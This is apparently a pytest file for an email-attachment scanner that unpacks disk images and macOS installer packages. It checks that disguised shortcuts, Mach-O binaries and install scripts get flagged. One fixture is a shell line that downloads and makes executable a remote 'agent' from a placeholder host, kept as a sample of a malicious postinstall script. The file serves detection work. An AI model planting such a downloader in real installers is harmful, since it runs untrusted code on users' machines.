"""Disk images: ISO (pycdlib) with a nested zip-in-7z, FAT images and fixed VHDs (7-Zip), corpus ISO."""

from __future__ import annotations

import tempfile
from pathlib import Path

import pytest

from coinguard.findings import Finding, Item, VerdictKind
from coinguard.scan import ScanContext, scan_message
from coinguard.sniff import sniff
from coinguard.unpack.common import sevenzip_program
from coinguard.unpack.disk_image import DiskImage
from unpack.builders import (
    LNK,
    cpio_odc,
    fat12_image,
    fixed_vhd,
    gzip_bytes,
    iso_image,
    pbzx,
    sevenzip_archive,
    udif_image,
    xar_archive,
    zip_archive,
)

from helpers import DATA, make_context, make_message, need_corpus

needs_7zip = pytest.mark.skipif(sevenzip_program() is None, reason="the 7-Zip program is not installed")


def run(data: bytes, name: str) -> tuple[list[Finding], list[Item]]:
    item = Item(path=name, name=name, data=data, type=sniff(data))
    out = list(DiskImage().handle(item, make_context()))
    return [o for o in out if isinstance(o, Finding)], [o for o in out if isinstance(o, Item)]


def test_iso_with_a_shortcut_is_flagged_and_opened() -> None:
    data = iso_image({"Invoice_2024.pdf.lnk": LNK, "readme.txt": b"open the invoice"})
    assert sniff(data) == "iso"
    findings, items = run(data, "invoice.iso")
    assert [f.code for f in findings] == ["container.disk_image", "container.disk_image_executable"]
    assert "Invoice_2024.pdf.lnk" in findings[1].detail
    assert {(i.path, i.type) for i in items} == {
        ("invoice.iso/Invoice_2024.pdf.lnk", "lnk"), ("invoice.iso/readme.txt", "text")}


def test_udf_names_are_preferred() -> None:
    findings, items = run(iso_image({"Very Long Invoice Name.pdf.lnk": LNK, "notes.txt": b"n"}, udf=True), "u.iso")
    assert sorted(i.path for i in items) == ["u.iso/Very Long Invoice Name.pdf.lnk", "u.iso/notes.txt"]
    assert [f.code for f in findings] == ["container.disk_image", "container.disk_image_executable"]


def test_iso_without_anything_runnable_is_only_informational() -> None:
    findings, items = run(iso_image({"photo.txt": b"just text"}, joliet=False), "photos.iso")
    assert [f.code for f in findings] == ["container.disk_image"]
    assert [i.name for i in items] == ["F0."]  # plain ISO 9660 names (no Joliet), version suffix removed


def test_nested_zip_in_7z_in_iso_through_scan_message() -> None:
    lnk = (DATA / "strelka_test.lnk").read_bytes()
    inner_zip = zip_archive({"invoice.pdf.lnk": lnk})
    seven = sevenzip_archive({"docs/bundle.zip": inner_zip})
    iso = iso_image({"archive.7z": seven})
    verdict = scan_message(make_message(attachments=[("delivery.iso", iso)]), ScanContext())
    paths = {a.path: a.type for a in verdict.attachments}
    assert paths["delivery.iso/archive.7z"] == "7z"
    assert paths["delivery.iso/archive.7z/docs/bundle.zip"] == "zip"
    assert paths["delivery.iso/archive.7z/docs/bundle.zip/invoice.pdf.lnk"] == "lnk"
    assert "container.disk_image" in {f.code for f in verdict.findings}


def test_damaged_iso_is_a_parse_error() -> None:
    data = bytearray(iso_image({"a.txt": b"a"}))
    data[0x8000 + 80 : 0x8000 + 200] = b"\xff" * 120  # break the primary volume descriptor
    findings, items = run(bytes(data), "broken.iso")
    assert [f.code for f in findings] == ["container.disk_image", "archive.parse_error"]
    assert items == []


@needs_7zip
def test_fat_image_and_fixed_vhd(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    fat = fat12_image({"README.TXT": b"hello from fat", "INVOICE.LNK": LNK})
    for data, name, kind in ((fat, "disk.img", "img.fat"), (fixed_vhd(fat), "disk.vhd", "vhd")):
        assert sniff(data) == kind
        findings, items = run(data, name)
        assert [f.code for f in findings] == ["container.disk_image", "container.disk_image_executable"]
        assert {(i.path, i.type) for i in items} == {(f"{name}/README.TXT", "text"), (f"{name}/INVOICE.LNK", "lnk")}
        assert next(i for i in items if i.type == "lnk").data == LNK
    assert list(tmp_path.iterdir()) == []  # the private copies are gone


@needs_7zip
def test_vhd_whose_disk_is_not_readable_is_a_parse_error() -> None:
    findings, items = run(fixed_vhd(bytes(64 * 1024)), "empty.vhd")
    assert findings[0].code == "container.disk_image"
    assert items == []


@pytest.mark.corpus
def test_corpus_iso() -> None:
    data = (need_corpus() / "benign" / "attachments" / "strelka" / "test.iso").read_bytes()
    findings, items = run(data, "test.iso")
    assert [f.code for f in findings] == ["container.disk_image"]
    assert [i.path for i in items] == ["test.iso/lorem.txt"]


# -- macOS: UDIF disk images, xar installer packages and the cpio archives inside them ----------------------
#: A Mach-O header (64-bit, little-endian magic) padded: enough for sniff to call it ``macho``.
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(248)
INSTALL_SCRIPT = b"#!/bin/sh\ncurl -fsSL https://update.example.invalid/agent -o /tmp/agent && chmod +x /tmp/agent\n"


@needs_7zip
def test_dmg_is_opened_down_to_its_file_system(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    data = udif_image(fat12_image({"README.TXT": b"drag the app to Applications", "LEDGER": MACHO}))
    assert sniff(data) == "dmg"
    findings, items = run(data, "LedgerLive.dmg")
    # the macOS analyzer reports the image itself (macos.disk_image); this unpacker reports what runs inside
    assert [f.code for f in findings] == ["container.disk_image_executable"]
    assert {(i.path, i.type) for i in items} == {
        ("LedgerLive.dmg/README.TXT", "text"), ("LedgerLive.dmg/LEDGER", "macho")}
    assert next(i for i in items if i.type == "macho").data == MACHO
    assert list(tmp_path.iterdir()) == []


@needs_7zip
def test_dmg_with_a_mach_o_is_malicious_through_scan_message() -> None:
    dmg = udif_image(fat12_image({"INSTALL": MACHO}))
    verdict = scan_message(make_message(attachments=[("Wallet.dmg", dmg)]), ScanContext())
    assert verdict.verdict is VerdictKind.MALICIOUS
    assert verdict.strengths()["file.executable"] == "conclusive"
    assert "macos.disk_image" in verdict.strengths()
    assert any(f.code == "file.executable" and f.path == "Wallet.dmg/INSTALL" for f in verdict.findings)


@needs_7zip
def test_damaged_dmg_is_a_parse_error() -> None:
    data = bytearray(udif_image(fat12_image({"A.TXT": b"a"})))
    data[: len(data) - 1024] = bytes(len(data) - 1024)  # data fork and plist gone, trailer kept
    assert sniff(bytes(data)) == "dmg"
    findings, items = run(bytes(data), "broken.dmg")
    assert [f.code for f in findings] == ["archive.parse_error"]
    assert items == []


@needs_7zip
def test_dmg_whose_file_system_cannot_be_opened_is_not_called_read() -> None:
    findings, items = run(udif_image(bytes(64 * 1024)), "blank.dmg")  # a partition, but no file system in it
    assert [f.code for f in findings] == ["archive.unreadable"]
    assert "0.DOS_FAT_12" in findings[0].detail
    assert [i.name for i in items] == ["0.DOS_FAT_12"]  # still scanned as the bytes it is


@needs_7zip
def test_pkg_members_and_the_cpio_inside_are_read() -> None:
    scripts = cpio_odc({"./preinstall": INSTALL_SCRIPT})
    assert sniff(scripts) == "cpio"
    pkg = xar_archive({"Distribution": b"<installer-gui-script minSpecVersion='1'/>", "Scripts": gzip_bytes(scripts)})
    assert sniff(pkg) == "xar"
    findings, items = run(pkg, "Update.pkg")
    assert findings == []
    assert {(i.path, i.type) for i in items} >= {("Update.pkg/Distribution", "text"), ("Update.pkg/Scripts", "gzip")}
    findings, items = run(scripts, "Scripts")
    assert findings == []
    assert [(i.path, i.type, i.data) for i in items] == [("Scripts/preinstall", "script.sh", INSTALL_SCRIPT)]


@needs_7zip
def test_pkg_payload_app_bundle_is_found_through_scan_message() -> None:
    payload = cpio_odc({"./Applications/Wallet.app/Contents/MacOS/Wallet": MACHO,
                        "./Applications/Wallet.app/Contents/Info.plist": b"<plist version='1.0'><dict/></plist>"})
    pkg = xar_archive({"Distribution": b"<installer-gui-script/>", "Payload": gzip_bytes(payload),
                       "Scripts": gzip_bytes(cpio_odc({"postinstall": INSTALL_SCRIPT}))})
    verdict = scan_message(make_message(attachments=[("WalletSetup.pkg", pkg)]), ScanContext())
    assert verdict.verdict is VerdictKind.MALICIOUS
    strengths = verdict.strengths()
    assert strengths["macos.package"] == "strong"
    assert strengths["macos.app_bundle"] == strengths["file.executable"] == "conclusive"
    assert strengths["macos.install_script_behavior"] == "conclusive"  # the postinstall, once unpacked
    types = {a.path: a.type for a in verdict.attachments}
    assert types["WalletSetup.pkg/Payload"] == "gzip"
    app = [p for p, t in types.items() if p.endswith("Wallet.app/Contents/MacOS/Wallet")]
    assert len(app) == 1 and types[app[0]] == "macho"
    assert any(p.endswith("/postinstall") and t == "script.sh" for p, t in types.items())


@needs_7zip
def test_benign_pkg_and_dmg_are_not_malicious() -> None:
    pkg = xar_archive({"Distribution": b"<installer-gui-script/>",
                       "Payload": gzip_bytes(cpio_odc({"./Library/Fonts/readme.txt": b"fonts for the office"}))})
    dmg = udif_image(fat12_image({"PHOTO.TXT": b"holiday photos list"}))
    for name, data in (("fonts.pkg", pkg), ("photos.dmg", dmg)):
        verdict = scan_message(make_message(attachments=[(name, data)]), ScanContext())
        assert verdict.verdict is not VerdictKind.MALICIOUS, (name, verdict.basis)
        assert "conclusive" not in verdict.strengths().values()


@needs_7zip
def test_pkg_payload_in_pbzx_is_decoded_to_its_cpio() -> None:
    payload = cpio_odc({"./Applications/Wallet.app/Contents/MacOS/Wallet": MACHO, "./readme.txt": b"x" * 100_000})
    pkg = xar_archive({"Distribution": b"<installer-gui-script/>", "Payload": pbzx(payload)})
    findings, items = run(pkg, "Wallet.pkg")
    assert findings == []
    decoded = next(i for i in items if i.name == "Payload")
    assert decoded.type == "cpio" and decoded.data == payload
    verdict = scan_message(make_message(attachments=[("Wallet.pkg", pkg)]), ScanContext())
    assert verdict.strengths()["macos.app_bundle"] == "conclusive"


@needs_7zip
def test_broken_pbzx_payload_is_a_parse_error_and_still_scanned() -> None:
    broken = pbzx(cpio_odc({"./a": b"a" * 5000}))[:-20]
    findings, items = run(xar_archive({"Payload": broken}), "b.pkg")
    assert [f.code for f in findings] == ["archive.parse_error"]
    assert "pbzx" in findings[0].detail
    assert next(i for i in items if i.name == "Payload").data == broken


@needs_7zip
def test_pbzx_bomb_is_stopped() -> None:
    findings, items = run(xar_archive({"Payload": pbzx(bytes(8 << 20), chunk=1 << 20)}), "bomb.pkg")
    assert [f.code for f in findings] == ["container.bomb"]
    assert next(i for i in items if i.name == "Payload").data.startswith(b"pbzx")  # left as it came
